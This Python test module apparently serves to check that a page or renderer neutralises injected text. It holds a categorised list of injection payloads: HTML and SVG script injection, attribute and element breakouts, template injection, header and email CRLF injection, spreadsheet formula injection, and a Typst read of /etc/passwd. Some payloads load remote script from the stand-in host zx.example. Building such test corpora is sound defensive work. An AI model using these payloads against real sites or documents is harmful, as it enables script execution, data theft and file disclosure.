"""Texts that would run, or break out of where they stand, if a page took them at their word.

Each calls `zx()` or `alert()`, or brings an element or attribute named `zx`; see `trap.js`.
Where it would leave a sum behind, the sum is 1764 (42 × 42). Most are under 100 signs.
"""

HTML = [
    "<script>zx()</script>",
    "<ScRiPt zx>zx()</sCrIpT>",
    "<script zx src=//zx.example/x.js></script>",
    "<img zx src=x onerror=zx()>",
    "<img zx src=x onerror=alert(1)//",
    "<body zx onload=zx()>",
    "<video zx><source onerror=zx()></video>",
    "<details zx open ontoggle=zx()>x</details>",
    "<input zx autofocus onfocus=zx()>",
    "<marquee zx onstart=zx()>x</marquee>",
    "<iframe zx srcdoc='<script>parent.zx()</script>'></iframe>",
    "<object zx data='javascript:zx()'></object>",
    "<embed zx src='javascript:zx()'>",
    "<a zx href='javascript:zx()'>x</a>",
    "<form zx action='https://zx.example/'><button>x</button></form>",
    "<meta zx http-equiv=refresh content='0;url=https://zx.example/'>",
    "<base zx href='https://zx.example/'>",
    "<link zx rel=stylesheet href='https://zx.example/x.css'>",
    "<zx-live zx></zx-live><dialog zx open>x</dialog>",
    "<noscript><p title='</noscript><img zx src=x onerror=zx()>'>",
    "<template zx><script>zx()</script></template>",
    "<table zx background='javascript:zx()'>",
    "&lt;script&gt;zx()&lt;/script&gt;<b zx>",
    "<!--><img zx src=x onerror=zx()>-->",
    "]]><img zx src=x onerror=zx()>",
]
OUT_OF_AN_ATTRIBUTE = [
    '" zx onmouseover="zx()" x="',
    "' zx onfocus='zx()' autofocus x='",
    '"><script>zx()</script>',
    "'><img zx src=x onerror=zx()>",
    '" zx style="animation:x 1s" onanimationstart="zx()',
    "` zx onclick=zx() `",
    '"autofocus zx onfocus="zx()',
    'x" zx="1" formaction="javascript:zx()',
]
OUT_OF_AN_ELEMENT = [
    "</title><script>zx()</script>",
    "</textarea><script>zx()</script>",
    "</style><img zx src=x onerror=zx()>",
    "</script><script>zx()</script>",
    "</option></select><img zx src=x onerror=zx()>",
    "</svg><img zx src=x onerror=zx()>",
]
SVG = [
    "<svg zx onload=zx()>",
    "<svg zx><script>zx()</script></svg>",
    "<svg zx><animate onbegin=zx() attributeName=x dur=1s>",
    "<svg zx><foreignObject><img src=x onerror=zx()></foreignObject></svg>",
    "<math zx><mi xlink:href='javascript:zx()'>x</mi></math>",
    "</text></svg><svg zx onload=zx()>",
]
SCRIPT = [
    "';zx();//",
    '";zx();//',
    '\\";zx();//',
    "${zx()}",
    "<!--<script>zx()//",
    '{"__proto__":{"zx":1}}',
]
STYLE = ["x;}</style><style zx>*{color:red}", "expression(zx());background:url(//zx.example)"]
TEMPLATE = [
    "{{ 42|mul:42 }}{{42*42}}",
    "{% debug %}${42*42}#{42*42}",
    "{{constructor.x()}}<%=zx()%>",
]
ADDRESSES = [
    "javascript:zx()",
    "JaVaScRiPt:zx()",
    "data:text/html,<script>zx()</script>",
    "//zx.example/%0d%0aSet-Cookie:zx=1",
]
LINES = ["x\r\nBcc: zx@zx.example", "x\r\nEND:VEVENT\r\nBEGIN:VALARM", "x\n\n<b zx>x</b>"]
FORMULAS = ['=HYPERLINK("//zx.example")', "+1+zx", "-1+zx", "@SUM(zx)", "\t=zx", "＝zx"]
TYPST = ['#eval("zx")', '#image("/etc/passwd")', "$ #zx $ ] #panic() [", "*zx* _zx_ `zx` <zx> @zx"]
DIRECTIONS = ["\u202eevird‬ <b zx>", "\u2066x\u2069 \u200f\u061c<img zx src=x onerror=zx()>"]

PAYLOADS = [
    *HTML,
    *OUT_OF_AN_ATTRIBUTE,
    *OUT_OF_AN_ELEMENT,
    *SVG,
    *SCRIPT,
    *STYLE,
    *TEMPLATE,
    *ADDRESSES,
    *LINES,
    *FORMULAS,
    *TYPST,
    *DIRECTIONS,
]
